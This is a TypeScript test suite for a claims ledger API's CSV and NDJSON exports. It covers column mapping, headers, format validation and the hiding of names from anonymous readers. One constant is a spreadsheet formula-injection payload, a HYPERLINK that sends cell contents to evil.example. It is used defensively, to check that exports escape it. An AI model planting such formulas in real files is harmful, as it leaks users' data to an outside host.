import Database from 'better-sqlite3';
import { join } from 'node:path';
import { request } from 'undici';

import { ROLES } from '../../events/envelope.js';
import { EVENTS_FILE } from '../../src/ledger-log.js';
import { accepted, refusalIn } from '../support/answers.js';
import type { ApiAnswer, ApiClient } from '../support/api-client.js';
import {
  ApiDescription,
  type OpenApiDocument,
  type Operation,
} from '../support/api-description.js';
import { csvRows, listInCell, plainCell, type CsvRows } from '../support/csv-rows.js';
import { citedClaim, Desk, type Written } from '../support/desk.js';
import { eventually } from '../support/eventually.js';
import { JSON_ROUTES, prepareJsonRoutes, send } from '../support/json-routes.js';
import { ServedLedger } from '../support/served-ledger.js';

const CSV = { Accept: 'text/csv' };
const LINES = { Accept: 'application/x-ndjson' };
const JSON_TYPE = 'application/json; charset=utf-8';
const CSV_TYPE = 'text/csv; charset=utf-8; header=present';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"ö, ü; |")';

type Item = Readonly<Record<string, unknown>>;

let served: ServedLedger;
let desk: Desk;
/** May read every route. */
let member: ApiClient;
let operations: ReadonlyMap<string, Operation>;
let claimId: string;
/** A webhook that selects everything. */
let takingAll: string;
/** Of every claim, source and member, by the collection that has them. */
const ids: Record<string, readonly string[]> = {};
beforeAll(async () => {
  served = await ServedLedger.start();
  desk = await Desk.over(served);
  member = await served.member(ROLES);
  const routes = await prepareJsonRoutes(desk);
  for (const name of JSON_ROUTES) accepted(await send(routes[name], routes[name].body));
  await fillFurther();
  await untilAllIsSent();
  const { body } = await served.anonymous.get('/openapi.json');
  operations = new ApiDescription(body as OpenApiDocument).operations();
  for (const collection of ['claims', 'sources', 'members', 'webhooks']) {
    const path = `/v1/${collection}?limit=500&atLeast=${desk.position}`;
    const { items } = accepted<{ items: { id: string }[] }>(await member.get(path));
    ids[collection] = items.map(({ id }) => id);
  }
}, 90_000);
afterAll(() => served.stop());

/** Deliveries go on by themselves. */
async function untilAllIsSent(): Promise<void> {
  const path = `/v1/webhooks/${takingAll}/deliveries?limit=1`;
  await eventually(async () => {
    const { items } = accepted<{ items: { position: string }[] }>(await member.get(path));
    const { body } = await served.anonymous.get('/metrics');
    const isNewest = items[0] !== undefined && items[0].position >= desk.position;
    return isNewest && /^fact_ledger_webhook_queued 0$/m.test(String(body));
  });
}

/** Adds claims of every kind of claimant, and a quote that was altered. */
async function fillFurther(): Promise<void> {
  const hook = { url: 'https://desk.example/all' };
  takingAll = (await desk.write<Written>(served.admin, '/v1/webhooks', hook)).id;
  const { sourceId, ...cited } = await citedClaim(desk, {
    text: FORMULA,
    topics: ['talks|walks', 'back\\slash', '-1'],
    claimant: { kind: 'anonymous', description: '@diplomat', basis: 'They were there.' },
  });
  ({ claimId } = cited);
  const { sha256 } = await desk.snapshot(sourceId, 'The ministry said: “Five men were there”.');
  const altered = { exact: 'Six men were there' };
  await desk.cite(claimId, sourceId, { snapshot: sha256, quote: altered });
  await desk.snapshot(sourceId, 'The ministry said nothing.');
  await desk.claim({ claimant: { kind: 'own-voice' } });
  for (const reviewer of desk.reviewers.slice(0, 2)) {
    await desk.judge(reviewer, claimId, [cited.citationId]);
  }
}

/** The routes that the document says can be had as CSV; those of lists, or the others. */
function routesAsCsv(areLists: boolean): string[] {
  const found = [...operations].filter(([, { parameters = [], responses }]) => {
    const isList = parameters.some(({ name }) => name === 'after');
    return responses['200']?.['x-accept']?.['text/csv'] !== undefined && isList === areLists;
  });
  return found.map(([route]) => route);
}

/** The paths of a route, for all that its parameter may name. */
function pathsOf(route: string): string[] {
  const path = route.slice('GET '.length);
  const [, collection] = /(\w+)\/:id/.exec(path) ?? [];
  return collection === undefined ? [path] : ids[collection]!.map((id) => path.replace(':id', id));
}

async function tableAt(path: string, client = member): Promise<CsvRows> {
  const answer = await client.get(path, CSV);
  expect({ path, status: answer.status }).toEqual({ path, status: 200 });
  expect(answer.headers.get('content-type')).toBe(CSV_TYPE);
  return csvRows(answer.body as string);
}

async function linesAt(path: string): Promise<Item[]> {
  const { body } = await member.get(path, LINES);
  const lines = String(body).split('\n').slice(0, -1);
  return lines.map((line) => JSON.parse(line) as Item);
}

/** What each cell says, beside what an item has in its place. */
function cellsBeside(item: Item, cells: Readonly<Record<string, string>>) {
  return Object.entries(cells).map(([name, cell]) => {
    const value = name.split('.').reduce<unknown>((at, part) => (at as Item | null)?.[part], item);
    return { name, cell: readAs(value, cell), value: value ?? null };
  });
}

/** A cell, read as something of the kind of a value. */
function readAs(value: unknown, cell: string): unknown {
  if (cell === '') return Array.isArray(value) ? [] : null;
  if (typeof value === 'string') return plainCell(cell);
  const isList = Array.isArray(value) && value.every((each) => typeof each === 'string');
  return isList && cell !== '[]' ? listInCell(cell) : (JSON.parse(cell) as unknown);
}

/** The columns that hold what an item has: it may lie flat in several, or be in one as a whole. */
function namesIn(value: unknown, name: string, columns: readonly string[]): string[] {
  if (columns.includes(name) || typeof value !== 'object' || value === null) return [name];
  return Object.entries(value).flatMap(([part, member]) =>
    namesIn(member, name === '' ? part : `${name}.${part}`, columns),
  );
}

/** Where a null stands for an object, that has columns, but none of its own. */
function hasColumn(columns: readonly string[], name: string): boolean {
  return columns.some((column) => column === name || column.startsWith(`${name}.`));
}

it('is had of every list', () => {
  const lists = [...operations].filter(
    ([, { parameters = [], responses }]) =>
      parameters.some(({ name }) => name === 'after') &&
      // What is streamed as events is no list.
      responses['200']?.content?.['application/json'] !== undefined,
  );
  expect(lists.length).toBeGreaterThan(12);
  expect(routesAsCsv(true)).toEqual(lists.map(([route]) => route));
});

it('has the rows of the lines, and all that they say', async () => {
  for (const route of routesAsCsv(true)) {
    let seen = 0;
    const headers = new Set<string>();
    for (const path of pathsOf(route)) {
      const { columns, rows } = await tableAt(path);
      const items = await linesAt(path);
      expect({ path, rows: rows.length }).toEqual({ path, rows: items.length });
      headers.add(columns.join());
      for (const [index, item] of items.entries()) {
        const beside = cellsBeside(item, rows[index]!);
        for (const { name, cell, value } of beside) {
          expect({ path, name, cell }).toEqual({ path, name, cell: value });
        }
        const untold = namesIn(item, '', columns).filter((name) => !hasColumn(columns, name));
        expect({ path, untold }).toEqual({ path, untold: [] });
      }
      seen += items.length;
    }
    expect({ route, isEmpty: seen === 0 }).toEqual({ route, isEmpty: false });
    expect({ route, headers: headers.size }).toEqual({ route, headers: 1 });
  }
});

it('has all that follows a cursor, whatever the limit', async () => {
  const first = accepted<{ next: string }>(await member.get('/v1/claims?limit=1'));
  const all = await tableAt('/v1/claims');
  const rest = await tableAt(`/v1/claims?limit=1&after=${first.next}`);
  expect(rest).toEqual({ columns: all.columns, rows: all.rows.slice(1) });
});

it('begins with a byte order mark', async () => {
  for (const path of ['/v1/claims', '/v1/claims?topic=none', '/v1/stats/overview']) {
    const { body } = await request(`${served.url}${path}`, { headers: CSV });
    const bytes = Buffer.from(await body.arrayBuffer());
    expect(bytes.subarray(0, 5).toString('latin1')).toMatch(/^\xef\xbb\xbf(id|cl)/);
  }
});

it('has its header where there are no rows', async () => {
  const none = await tableAt('/v1/claims?topic=none');
  expect(none).toEqual({ columns: (await tableAt('/v1/claims')).columns, rows: [] });
});

it('runs nothing that somebody wrote', async () => {
  const { rows } = await tableAt('/v1/claims');
  const row = rows.find(({ id }) => id === claimId)!;
  expect(row['text']).toBe(`'${FORMULA}`);
  expect(row['claimant.description']).toBe("'@diplomat");
  expect(row['topics']).toBe('talks\\|walks|back\\\\slash|-1');
  expect(listInCell(row['topics']!)).toEqual(['talks|walks', 'back\\slash', '-1']);
});

it('names nobody to the public', async () => {
  const isRead = (route: string) => operations.get(route)!['x-roles'].length === 0;
  let organizations = 0;
  for (const path of routesAsCsv(true).filter(isRead).flatMap(pathsOf)) {
    const shown = await tableAt(path, served.anonymous);
    const { columns, rows: all } = await tableAt(path);
    expect(shown.columns).toEqual(columns);
    // Of conflicts of interest the public sees no events.
    const rows = all.filter(({ type }) => !type?.startsWith('ConflictOfInterest'));
    const people = columns.filter((name) => columns.includes(name.replace(/\w+$/, 'organization')));
    for (const name of people.filter((column) => column.endsWith('.name'))) {
      expect(shown.rows.map((row) => row[name])).toEqual(rows.map(() => ''));
      const organization = name.replace(/name$/, 'organization');
      for (const [index, row] of rows.entries()) {
        expect(row[name] === '').toBe(row[organization] === '');
        expect(shown.rows[index]![organization]).toBe(row[organization]);
        if (row[organization] !== '') organizations += 1;
      }
    }
  }
  expect(organizations).toBeGreaterThan(20);
});

it('is of one line of counts for the overview', async () => {
  expect(routesAsCsv(false)).toEqual(['GET /v1/stats/overview']);
  const path = '/v1/stats/overview';
  const overview = accepted<Item>(await member.get(path));
  const { rows } = await tableAt(path);
  expect(rows).toHaveLength(1);
  for (const { cell, value } of cellsBeside(overview, rows[0]!)) expect(cell).toEqual(value);
  expect(rows[0]!['claims.total']).toBe(String(ids['claims']!.length));
});

describe('headers', () => {
  it.each([
    [() => '/v1/claims', 'claims.csv'],
    [() => `/v1/claims/${claimId}/verdicts`, 'claims-verdicts.csv'],
    [() => '/v1/policy/versions', 'policy-versions.csv'],
    [() => '/v1/stats/overview', 'stats-overview.csv'],
    [() => `/v1/claims/${claimId}/history`, 'claims-history.csv'],
  ])('say what it is, and that it is a file: %#', async (path, name) => {
    const asked = { ...CSV, 'If-None-Match': '"another"' };
    const got = await member.get(path(), asked);
    const head = await member.send('HEAD', path(), undefined, asked);
    expect(head.body).toBe('');
    for (const answer of [got, head]) {
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe(CSV_TYPE);
      expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="${name}"`);
      expect(answer.headers.get('cache-control')).toBe('private, no-cache');
      expect(answer.headers.get('vary')).toBe('Accept, Authorization');
      expect(answer.headers.get('ledger-position')).not.toBeNull();
      expect(answer.headers.get('etag') === null).toBe(name !== 'stats-overview.csv');
    }
  });

  it('say no such thing of what is refused, or is given as JSON', async () => {
    for (const path of ['/v1/claims?limit=0', '/v1/claims?after=x', '/v1/claims?format=json']) {
      const { headers } = await member.get(path, CSV);
      expect(headers.get('content-type')).toMatch(/json/);
      expect(headers.get('content-disposition')).toBeNull();
    }
  });

  it('say of the overview whether it is held already', async () => {
    const etag = (await member.get('/v1/stats/overview', CSV)).headers.get('etag')!;
    const again = await member.get('/v1/stats/overview', { ...CSV, 'If-None-Match': etag });
    expect(again.status).toBe(304);
    const json = await member.get('/v1/stats/overview', { 'If-None-Match': etag });
    expect(json.headers.get('etag')).not.toBe(etag);
    expect(json.status).toBe(200);
  });
});

describe('format', () => {
  const typeOf = ({ headers }: ApiAnswer) => headers.get('content-type');

  it('asks for every form of every read, whatever Accept says', async () => {
    for (const [route, { parameters = [], responses }] of operations) {
      const parameter = parameters.find(({ name }) => name === 'format');
      const types = Object.keys(responses['200']?.['x-accept'] ?? {});
      // The pages about problems are for browsers, which name what they want.
      if (!parameter) {
        expect({ route, types }).toEqual({ route, types: types.filter((t) => t === 'text/html') });
        continue;
      }
      const names = parameter.schema['enum'] as readonly string[];
      expect({ route, names: names.length }).toEqual({ route, names: types.length + 1 });
      const [path] = pathsOf(route);
      for (const [index, name] of names.entries()) {
        for (const accept of ['application/json', 'text/csv', 'image/png', '*/*']) {
          const answer = await member.get(`${path}?format=${name}`, { Accept: accept });
          expect({ route, name, status: answer.status }).toEqual({ route, name, status: 200 });
          expect(typeOf(answer)).toContain(['application/json', ...types][index]);
        }
      }
    }
  });

  it('gives the same as Accept does', async () => {
    const path = `/v1/claims/${claimId}/history`;
    expect((await member.get(`${path}?format=csv`)).body).toBe((await member.get(path, CSV)).body);
    const lines = await member.get(`${path}?format=ndjson`, CSV);
    expect(lines.body).toBe((await member.get(path, LINES)).body);
    expect(typeOf(await member.get(`${path}?format=json`, CSV))).toBe(JSON_TYPE);
  });

  it.each([
    '/v1/claims?format=xml',
    '/v1/claims?format=',
    '/v1/claims?format=CSV',
    '/v1/claims?format=csv&format=csv',
    '/v1/claims?format=dot',
    '/v1/claims?format[]=csv',
    '/v1/events?format=dot',
    '/v1/stats/overview?format=ndjson',
    '/v1/policy?format=csv',
    '/v1/members/me?format=json',
  ])('is refused where it is none that the route has: %s', async (path) => {
    expect(refusalIn(await member.get(path))).toMatch(/^422 invalid \/format/);
  });

  it('is no way past Accept where the route does not take it', async () => {
    const nothing = { Accept: 'image/png' };
    const before = await served.ledger.store.head();
    const withdrawal = `/v1/claims/${claimId}/withdrawal?format=json`;
    const refused = await member.post(withdrawal, { reason: 'Twice.' }, nothing);
    expect(refusalIn(refused)).toBe('406 not-acceptable');
    expect(await served.ledger.store.head()).toBe(before);
    for (const path of ['/v1/policy?format=json', '/v1/claims?format=xml']) {
      expect(refusalIn(await member.get(path, nothing))).toBe('406 not-acceptable');
    }
  });
});

describe('a table that cannot be read to its end', () => {
  it('is cut off, and does not end as a whole one does', async () => {
    const broken = await ServedLedger.start();
    try {
      const { auditor, position } = await brokenAt(broken, 40);
      for (const form of ['csv', 'ndjson']) {
        await expect(auditor.get(`/v1/events?format=${form}`)).rejects.toThrow(/aborted|closed/);
      }
      // What breaks before anything is sent is told, and is no file to save.
      const before = String(Number(position) - 1).padStart(16, '0');
      const told = await auditor.get(`/v1/events?format=csv&after=${before}`);
      expect(refusalIn(told)).toBe('503 event-store-damaged');
      expect(told.headers.get('content-disposition')).toBeNull();
    } finally {
      await broken.stop();
    }
  });

  /** Records claims, and damages the one behind so many of them. */
  async function brokenAt(broken: ServedLedger, claims: number) {
    const [auditor, author] = [
      await broken.member(['auditor']),
      await broken.member(['contributor']),
    ];
    const claim = { text: 'word '.repeat(800), kind: 'fact', claimant: { kind: 'own-voice' } };
    let position = '';
    for (let n = 0; n <= claims; n += 1) {
      ({ position } = accepted<{ position: string }>(await author.post('/v1/claims', claim)));
    }
    const db = new Database(join(broken.dataDir, EVENTS_FILE));
    db.exec('DROP TRIGGER IF EXISTS events_are_never_changed');
    const damage = "UPDATE events SET data = replace(data, 'word', 'sword') WHERE position = ?";
    db.prepare(damage).run(Number(position));
    db.close();
    return { auditor, position };
  }
});
